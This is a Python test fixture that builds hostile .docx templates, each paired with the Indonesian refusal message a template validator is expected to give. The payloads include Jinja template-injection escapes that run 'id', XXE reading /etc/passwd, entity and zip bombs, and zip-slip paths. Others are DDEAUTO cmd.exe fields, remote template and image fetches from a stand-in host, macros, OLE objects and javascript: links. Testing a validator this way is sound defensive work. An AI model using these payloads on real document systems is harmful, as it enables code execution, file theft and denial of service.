"""Templates that mean harm, each built from a built-in one with one thing put in."""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from generator.office.package import pack, parts_of
from tests.conftest import ROOT

MAIN = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
TYPES = "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'

Parts = dict[str, bytes]


@dataclass(frozen=True)
class Hostile:
    """One template: what it tries, its bytes, and what the refusal says."""

    tries: str
    build: Callable[[], bytes]
    said: str


def clean() -> Parts:
    """The parts of the built-in template of the decree."""
    return parts_of((ROOT / "templates" / "keputusan.docx").read_bytes())


def text(*paragraphs: str) -> Callable[[], bytes]:
    """A template with these paragraphs in front."""
    xml = "".join(f'<w:p><w:r><w:t xml:space="preserve">{one}</w:t></w:r></w:p>' for one in paragraphs)
    return body(xml)


def body(xml: str, **more: bytes) -> Callable[[], bytes]:
    """A template whose body begins with this XML."""

    def build() -> bytes:
        parts = clean()
        parts[MAIN] = parts[MAIN].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
        return pack({**parts, **more}.items())

    return build


def relation(kind: str, target: str, outside: bool = True, rels: str = RELS, **more: bytes) -> Callable[[], bytes]:
    """A template with one more relation of this kind."""

    def build() -> bytes:
        mode = ' TargetMode="External"' if outside else ""
        one = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        parts = {RELS: b"", **clean()}
        old = parts.get(rels, RELATIONS.format("").encode()).decode()
        parts[rels] = old.replace("</Relationships>", f"{one}</Relationships>").encode()
        return pack(
            {**parts, **{name.replace("__", "/").replace("_", "."): content for name, content in more.items()}}.items()
        )

    return build


def with_parts(parts: Mapping[str, bytes]) -> Callable[[], bytes]:
    """A template with these parts added or replaced."""
    return lambda: pack({**clean(), **parts}.items())


def field_code(*codes: str) -> Callable[[], bytes]:
    """A template with a field whose code lies in these pieces."""
    pieces = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    return body(f"<w:p>{mark('begin')}{pieces}{mark('separate')}<w:r><w:t>x</w:t></w:r>{mark('end')}</w:p>")


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def main_type(kind: str) -> Callable[[], bytes]:
    """A template that says it is a document of another kind."""

    def build() -> bytes:
        parts = clean()
        old = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        assert old in parts[TYPES]
        return pack({**parts, TYPES: parts[TYPES].replace(old, kind.encode())}.items())

    return build


def entry(name: str, content: bytes) -> Callable[[], bytes]:
    """A template with an entry under any name, also one that is there already."""

    def build() -> bytes:
        buffer = io.BytesIO(pack(clean().items()))
        with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
            warnings.simplefilter("ignore")
            archive.writestr(name, content)
        return buffer.getvalue()

    return build


def doctype(declaration: str) -> Callable[[], bytes]:
    """A template whose body declares entities."""

    def build() -> bytes:
        parts = clean()
        head, _, rest = parts[MAIN].partition(b"?>")
        return pack({**parts, MAIN: head + b"?>" + declaration.encode() + rest}.items())

    return build


def utf16() -> bytes:
    parts = clean()
    xml = parts[MAIN].decode().replace("UTF-8", "UTF-16")
    return pack({**parts, MAIN: xml.encode("utf-16")}.items())


STRICT = b"http://purl.oclc.org/ooxml/wordprocessingml/main"


def strict() -> bytes:
    """A template in the Strict form of Office files, with a field that runs a command."""
    parts = parts_of(field_code('DDEAUTO "cmd" "/k calc"')())
    old = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return pack({**parts, MAIN: parts[MAIN].replace(old, STRICT)}.items())


def loops(depth: int, printed: str = "x") -> Callable[[], bytes]:
    ten = "(1, 2, 3, 4, 5, 6, 7, 8, 9, 0)"
    opening = "".join(f"{{% for a{level} in {ten} %}}" for level in range(depth))
    return text(f"{opening}{printed}{'{% endfor %}' * depth}")


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
RECT = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata {}/></v:shape></w:pict></w:r></w:p>'

HOSTILE = [
    # Code from the template's own language
    Hostile("cycler", text("{{ cycler.__init__.__globals__.os.popen('id').read() }}"), "memanggil fungsi"),
    Hostile("kelas", text("{{ nomor.__class__.__mro__[1].__subclasses__ }}"), "tidak dikenal: nomor.__class__"),
    Hostile("kelas lewat kurung", text("{{ nomor['__class__']['__mro__'] }}"), "tidak dikenal: nomor.__class__"),
    Hostile("kelas dari teks", text("{{ ('a').__class__ }}"), "tidak dikenal"),
    Hostile("filter attr", text("{{ nomor|attr('__class__') }}"), "perintah “attr” yang tidak dikenal"),
    Hostile("filter map", text("{{ diktum|map(attribute='__class__')|join }}"), "perintah “map” yang tidak dikenal"),
    Hostile("filter sendiri", text("{{ nomor|_runs(99) }}"), "perintah “_runs” yang tidak dikenal"),
    Hostile("format", text("{{ '{0.__class__}'.format(nomor) }}"), "memanggil fungsi"),
    Hostile("format persen", text("{{ '%999999999d' % 1 }}"), "tidak diizinkan"),
    Hostile("include", text("{% include '/etc/passwd' %}"), "tidak diizinkan: include"),
    Hostile("macro", text("{% macro m() %}{{ m() }}{% endmacro %}"), "tidak diizinkan: macro"),
    Hostile("raw", text("{% raw %}{{ x }}{% endraw %}"), "tidak diizinkan: raw"),
    Hostile("tanda dalam teks alternatif", body('<w:p><w:bookmarkStart w:id="9" w:name="{{ nomor }}"/><w:bookmarkEnd w:id="9"/></w:p>'), "di luar teks paragraf"),
    # Work without end
    Hostile("perulangan di dalam perulangan", loops(9), "mengulang terlalu banyak"),
    Hostile("keluaran tak habis", loops(5, "x" * 2000), "lebih besar dari 64 MB"),
    Hostile("perulangan sangat dalam", loops(40), "bertingkat lebih dari 12"),
    Hostile("range", text("{% for i in range(999999999) %}x{% endfor %}"), "memanggil fungsi"),
    Hostile("teks dikali", text("{{ 'a' * 999999999 }}"), "memakai perkalian"),
    Hostile("teks ditambah", text("{% set x = 'aaaaaaaa' %}" + "{% set x = x + x %}" * 40 + "{{ x }}"), "bukan angka"),
    Hostile("teks berlipat", text("{% set x = 'aaaaaaaa' %}" + "{% set x = x ~ x %}" * 40 + "{{ x }}"), "merangkai teks lebih dari 1 juta huruf"),
    Hostile("sepuluh ribu if", text(*["{% if nomor %}" * 100] * 100), "lebih dari 4000 tanda"),
    Hostile("elif tak habis", text("{% if nomor %}" + "{% elif nomor %}" * 3800 + "{% endif %}"), "lebih dari 100 elif"),
    Hostile("kurung bertingkat", text("{{ " + "(" * 450 + "nomor" + ")" * 450 + " }}"), "terlalu bertingkat"),
    Hostile("bagian bertingkat", text("{{ nomor" + ".a" * 450 + " }}"), "tidak diizinkan"),
    Hostile("tanda sangat panjang", text("{{ " + "nomor ~ " * 500 + "nomor }}"), "lebih panjang dari 1000 huruf"),
    Hostile("tanda sangat banyak", text(*["{{ nomor }}"] * 5000), "lebih dari 4000 tanda"),
    Hostile("kurung kurawal tak habis", text("{{ " * 900_000), "memuat tanda {{ yang tidak berpasangan"),
    Hostile("kurung persen tak habis", text("{%p " * 900_000), "memuat tanda {% yang tidak berpasangan"),
    # The file itself
    Hostile("bom entitas", doctype(f'<!DOCTYPE w [<!ENTITY a0 "ha">{LAUGHS}]>'), "deklarasi XML yang tidak lazim"),
    Hostile("entitas luar", doctype('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "deklarasi XML yang tidak lazim"),
    Hostile("bom zip", with_parts({"word/media/x.png": bytes(199 * 1024 * 1024)}), "terlalu besar setelah dibuka"),
    Hostile("bom zip dalam batas", with_parts({"word/styles.xml": b"<w>" + b"<a/>" * 11_000_000 + b"</w>"}), "terlalu banyak gaya atau format"),
    Hostile("isi besar", body("<w:p>" + "<w:proofErr/>" * 390_000 + "</w:p>" + "<w:p/>" * 100_000), "terlalu besar"),
    Hostile("sisa Word tak habis", body("<w:p>" + "<w:proofErr/>x" * 330_000 + "<w:r><w:t>{{ tiada }}</w:t></w:r></w:p>"), "tidak dikenal: tiada"),
    Hostile("XML sangat dalam", body("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000), "rusak pada bagian word/document.xml"),
    Hostile("UTF-16", utf16, "penyandian yang tidak lazim"),
    Hostile("keluar dari berkas", entry("../../../tmp/jahat.xml", b"<a/>"), "menunjuk ke luar berkas"),
    Hostile("garis miring terbalik", entry("word\\..\\..\\jahat.xml", b"<a/>"), "menunjuk ke luar berkas"),
    Hostile("bagian kembar", entry("word/document.xml", b"<a/>"), "dua bagian bernama sama"),
    Hostile("bagian kembar huruf besar", entry("WORD/Document.xml", b"<a/>"), "dua bagian bernama sama"),
    # What runs or is fetched when the document is opened
    Hostile("makro", with_parts({"word/vbaProject.bin": b"x"}), "memuat makro"),
    Hostile("docm", main_type("application/vnd.ms-word.document.macroEnabled.main+xml"), "memuat makro"),
    Hostile("dotm", main_type("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"), "memuat makro"),
    Hostile("templat luar", relation("attachedTemplate", "http://jahat.example/x.dotm", rels=SETTINGS_RELS), "templat lain yang dilampirkan"),
    Hostile("gambar file", relation("image", "file:///etc/passwd"), "mengambil gambar dari luar berkas"),
    Hostile("gambar UNC", relation("image", "\\\\jahat\\x.png"), "mengambil gambar dari luar berkas"),
    Hostile("gambar web", relation("image", "http://jahat.example/x.png"), "mengambil gambar dari luar berkas"),
    Hostile("gambar VML", body(RECT.format('src="file:///etc/passwd"')), "mengambil gambar dari luar berkas"),
    Hostile("OLE", relation("oleObject", "embeddings/x.bin", False, word__embeddings__x_bin=b"x"), "objek program lain"),
    Hostile("OLE tertaut", relation("oleObject", "file:///C:/x.xlsx"), "objek program lain"),
    Hostile("berkas disematkan", relation("package", "embeddings/x.xlsx", False), "berkas lain yang disematkan"),
    Hostile("altChunk", relation("aFChunk", "x.html", False), "dokumen lain yang disisipkan"),
    Hostile("program", with_parts({"word/embeddings/x.exe": b"MZ"}), "menjalankan perintah"),
    Hostile("ActiveX", relation("control", "activeX/x.xml", False), "kontrol ActiveX"),
    Hostile("subdokumen", relation("subDocument", "file:///C:/x.docx"), "dokumen bagian"),
    Hostile("bingkai", relation("frame", "http://jahat.example/", rels="word/_rels/webSettings.xml.rels"), "bingkai ke halaman lain"),
    Hostile("mail merge", with_parts({"word/settings.xml": b'<w:settings xmlns:w="x"><w:mailMerge><w:query/></w:mailMerge></w:settings>'}), "sumber data mail merge"),
    Hostile("tautan javascript", relation("hyperlink", "javascript:alert(1)"), "tautan yang tidak diizinkan: javascript"),
    Hostile("tautan file", relation("hyperlink", "file:///C:/Windows/System32/calc.exe"), "tautan yang tidak diizinkan: file"),
    Hostile("tautan UNC", relation("hyperlink", "\\\\jahat\\berbagi\\x.docx"), "tautan yang tidak diizinkan"),
    Hostile("hubungan ke luar", relation("header", "../../../../etc/passwd", False), "bagian yang tidak ada di dalamnya"),
    Hostile("isi di tempat lain", relation("officeDocument", "word/lain.xml", False, rels="_rels/.rels", word__lain_xml=b"<a/>"), "tempat yang tidak lazim"),
    *(Hostile(code.split()[0], field_code(code), f"kode field {code.split()[0]}") for code in (
        'INCLUDETEXT "C:\\\\Users\\\\rahasia.docx"', 'INCLUDEPICTURE "http://jahat.example/x.png" \\d',
        'DDE Excel "C:\\\\x.xlsx" R1C1', 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        'LINK Excel.Sheet.8 "C:\\\\x.xlsx"', 'IMPORT "C:\\\\x.png"', 'DATABASE \\d "C:\\\\x.mdb"', 'RD "C:\\\\x.docx"',
        'MACROBUTTON Jahat klik', 'AUTOTEXTLIST x', 'EMBED Package',
    )),
    Hostile("DDE terpecah", field_code(" DDE", "AUTO c:\\x.exe "), "kode field DDEAUTO"),
    Hostile("DDE tersembunyi", body(f'<w:p>{mark("begin")}{mark("begin")}<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>{mark("end")}<w:r><w:instrText> c:\\x.exe</w:instrText></w:r>{mark("end")}</w:p>'), "kode field C:\\X.EXE"),
    Hostile("field sederhana", body('<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p>'), "kode field INCLUDETEXT"),
    Hostile("field tautan", field_code('HYPERLINK "file:///C:/x.exe"'), "tautan yang tidak diizinkan"),
    Hostile("DDE dalam Strict", strict, "kode field DDEAUTO"),
    Hostile("Strict", with_parts({MAIN: clean()[MAIN].replace(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main", STRICT)}), "Strict Open XML"),
    Hostile("buku kerja makro di grafik", relation("package", "../embeddings/x.xlsm", False, rels="word/charts/_rels/chart1.xml.rels", word__charts__chart1_xml=b"<a/>", word__embeddings__x_xlsm=b"x"), "berkas lain yang disematkan"),
    Hostile("field tautan rakitan", field_code("HYPERLINK "), "tautan yang tidak diizinkan"),
]  # fmt: skip


def write(hostile: Hostile, folder: Path) -> Path:
    """The template as `keputusan.docx` in a folder of its own."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "keputusan.docx").write_bytes(hostile.build())
    return folder
